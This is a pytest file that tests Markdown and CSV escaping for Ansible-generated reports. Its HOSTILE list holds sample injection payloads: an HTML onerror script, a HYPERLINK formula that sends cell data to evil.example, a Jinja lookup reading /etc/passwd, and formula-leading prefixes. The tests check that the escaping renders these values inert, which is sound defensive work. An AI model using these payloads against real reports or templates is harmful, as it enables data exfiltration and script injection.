# Copyright: (c) 2026, Da Nang city IT infrastructure centre
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Escaping for the reports: hostile values stay inert text in Markdown and in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from ansible_collections.danang.mail.plugins.module_utils.escaping import csv_field, markdown_cell
from hypothesis import given
from hypothesis import strategies as st

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")',
    "{{ lookup('file', '/etc/passwd') }}",
    "[Sở Tài chính](http://evil.example)",
    "a | b\n| c |",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "**đậm** _nghiêng_ `mã` ~~gạch~~",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_markdown_cell_is_one_line_without_html_or_markup(value: str) -> None:
    cell = markdown_cell(value)
    assert "\n" not in cell and "\r" not in cell
    assert "<" not in cell and ">" not in cell
    for char in "|[]()`*_~":  # every markup character is escaped
        assert all(cell[i - 1] == "\\" for i, c in enumerate(cell) if c == char), cell


def test_markdown_cell_keeps_vietnamese_text_and_addresses_readable() -> None:
    assert markdown_cell("Sở Thông tin và Truyền thông") == "Sở Thông tin và Truyền thông"
    assert markdown_cell("dungnv@danang.gov.vn") == "dungnv@danang.gov.vn"
    assert markdown_cell(None) == ""


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_field_never_starts_a_formula_and_reads_back(value: str) -> None:
    field = csv_field(value)
    [[read]] = list(csv.reader(io.StringIO(field)))
    assert read[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert read.removeprefix("'") == value


@given(st.text())
def test_csv_field_reads_back_as_one_inert_field(value: str) -> None:
    [[read]] = list(csv.reader(io.StringIO(csv_field(value), newline="")))
    assert read[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert read in (value, "'" + value)
